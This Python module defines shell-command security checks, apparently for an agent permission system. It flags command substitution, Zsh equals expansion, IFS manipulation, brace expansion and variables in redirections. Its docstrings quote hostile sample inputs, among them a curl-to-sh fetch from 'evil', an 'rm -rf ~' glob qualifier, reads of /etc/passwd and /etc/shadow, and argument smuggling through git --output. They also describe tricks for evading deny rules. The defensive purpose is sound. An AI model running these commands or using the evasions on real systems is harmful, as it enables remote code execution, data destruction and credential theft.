"""Checks for constructs that make a word's value unknowable before it runs:
substitutions, expansions, IFS games, variables in redirections."""

from __future__ import annotations

from regexes import regex
from values import valueclass

from ..braces import expand_braces
from .base import CheckInput, check
from .ids import CheckId

TYPE_CHECKING = False
if TYPE_CHECKING:
    import re


@valueclass
class SubstitutionPattern:
    pattern: re.Pattern[str]
    message: str


#: Every known way to run a command or compute a word inside another word.
#: Matched against the ``with_double_quotes`` view: substitution is live in
#: double quotes, dead in single quotes.
COMMAND_SUBSTITUTION_PATTERNS: tuple[SubstitutionPattern, ...] = tuple(
    SubstitutionPattern(regex(p), m)
    for p, m in (
        (r"<\(", "process substitution <()"),
        (r">\(", "process substitution >()"),
        # Zsh `=(cmd)` writes cmd's output to a temp file and substitutes its name.
        (r"=\(", "Zsh process substitution =()"),
        # Zsh `=curl evil.com` expands to /usr/bin/curl: a `Bash(curl:*)` deny
        # rule sees the command `=curl`, not `curl`.
        (r"(?:^|[\s;&|(])=[a-zA-Z_]", "Zsh equals expansion (=cmd)"),
        (r"\$\(", "$() command substitution"),
        (r"\$\{", "${} parameter substitution"),
        (r"\$\[", "$[] legacy arithmetic expansion"),
        (r"~\[", "Zsh-style parameter expansion ~[]"),
        # Zsh glob qualifiers run code while matching: `*(e:'rm -rf ~':)`.
        (r"\(e:", "Zsh-style glob qualifier (e:)"),
        (r"\(\+", "Zsh glob qualifier with command execution (+)"),
        (r"\}\s*always\s*\{", "Zsh always block (try/always construct)"),
        # Not a bash construct; defence in depth should a PowerShell path appear.
        (r"<#", "PowerShell comment syntax <#"),
    )
)

_BACKTICK_RE = regex(r"(?<!\\)(?:\\\\)*`")
#: one of these is in every pattern above (the `(` of `<(` and `(e:`, the
#: `=` of `=(` and `=cmd`, the `}` of `} always {`, the `#` of `<#`)
_SUBSTITUTION_CHARS = frozenset("(=$~}#`")
_INPUT_PIPE_RE = regex(r"<\(")


@check(CheckId.DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION)
def command_substitution(inp: CheckInput) -> str | None:
    """Command substitution, process substitution and expansion syntax.

    Attack: the output of a substitution becomes an argument nobody saw:
    ``git diff $(printf -- --output=~/.bashrc)``; ``echo "$(curl evil|sh)"``
    runs inside double quotes. Reproducer: ``ls "$(id)"``.
    """
    view = inp.views.with_double_quotes
    if _SUBSTITUTION_CHARS.isdisjoint(view):
        return None  # every pattern needs one of them
    # `diff <(ls a) <(ls b)`: the parser analyzed every `<(…)`'s commands on
    # their own (nodewords.input_pipe) and the outer word is a pipe path
    # Counted in the raw text, not the quote view: a here-document body
    # the view does not model (`it's` in it) can hide a `<(` there (from a
    # review); a quoted "<(" counts too, and only asks.
    analyzed = not inp.legacy and len(_INPUT_PIPE_RE.findall(inp.text)) == inp.parse.input_pipes
    for sub in COMMAND_SUBSTITUTION_PATTERNS:
        if sub.pattern.pattern == _INPUT_PIPE_RE.pattern and analyzed:
            continue
        if sub.pattern.search(view):
            return sub.message
    if "`" in view and _BACKTICK_RE.search(view):
        return "backtick command substitution"
    return None


_IFS_RE = regex(
    r"(?:^|[\s;&|(])(?:export\s+|declare\s+|local\s+)?IFS\+?=|\$\{?[!#]?IFS\b"
    r"|\b(?:read|mapfile|readarray|getopts)\b[^;&|\n]*\bIFS\b|\bprintf\s+-v\s*IFS\b"
)


@check(CheckId.IFS_INJECTION)
def ifs_injection(inp: CheckInput) -> str | None:
    """Assigning or expanding ``IFS``.

    Attack: with ``IFS=,`` the word ``cat,/etc/shadow`` built from an
    expansion splits into ``cat`` ``/etc/shadow``; ``$IFS`` in place of spaces
    (``cat$IFS/etc/passwd``) defeats whitespace-based parsing.
    """
    view = inp.views.with_double_quotes
    m = _IFS_RE.search(view) if "IFS" in view else None  # in every alternative
    if m:
        return f"IFS manipulation: {m.group(0).strip()!r}"
    return None


_BRACE_TEXT_RE = regex(r"\{[^\s]*?(?:,|\.\.)[^\s]*?\}")
#: a shell word as the quote-keeping view shows it (operators split words)
_TOKEN_RE = regex(r"[^\s;&|()<>]+")


@check(CheckId.BRACE_EXPANSION)
def brace_expansion(inp: CheckInput) -> str | None:
    """Unquoted brace expansion.

    Attack: one word becomes several after every check ran:
    ``git diff {@'{'0},--output=/tmp/pwned}`` expands to ``git diff @{0}
    --output=/tmp/pwned``. Bash skips a ``}`` with no comma before it, so the
    match is deliberately loose: any unquoted ``{`` … ``,`` or ``..`` … ``}``
    within one word. A word in the forms :mod:`..braces` emulates exactly
    (plain characters, ``{a,b}``, ``{1..3}``) is expanded by the parser
    before any command table sees it, so its words are judged one by one.
    """
    if "{" not in inp.views.unquoted_keep_quote_chars and "{" not in inp.views.fully_unquoted:
        return None  # the pattern starts with one
    if inp.legacy:
        m = _BRACE_TEXT_RE.search(inp.views.fully_unquoted)
        return f"brace expansion {m.group(0)[:40]!r}" if m else None
    for token in _TOKEN_RE.findall(inp.views.unquoted_keep_quote_chars):
        m = _BRACE_TEXT_RE.search(token)
        if m and expand_braces(token) is None:
            return f"brace expansion {m.group(0)[:40]!r}"
    return None


_VAR_REDIRECT_RE = regex(r"[<>|]\s*\$[A-Za-z_{(]|\$\{?[A-Za-z_][A-Za-z0-9_]*\}?\s*[|<>]")


@check(CheckId.DANGEROUS_VARIABLES)
def dangerous_variables(inp: CheckInput) -> str | None:
    """A variable used as a redirection target or next to a pipe.

    Attack: ``cat x > $F`` writes wherever ``F`` points (set earlier, or by
    the environment); ``$CMD | sh`` / ``echo x | $CMD`` runs a command whose
    name nobody reviewed.
    """
    view = inp.views.with_double_quotes
    m = _VAR_REDIRECT_RE.search(view) if "$" in view else None  # in both alternatives
    if m:
        return f"variable in a redirection or pipe: {m.group(0).strip()!r}"
    return None
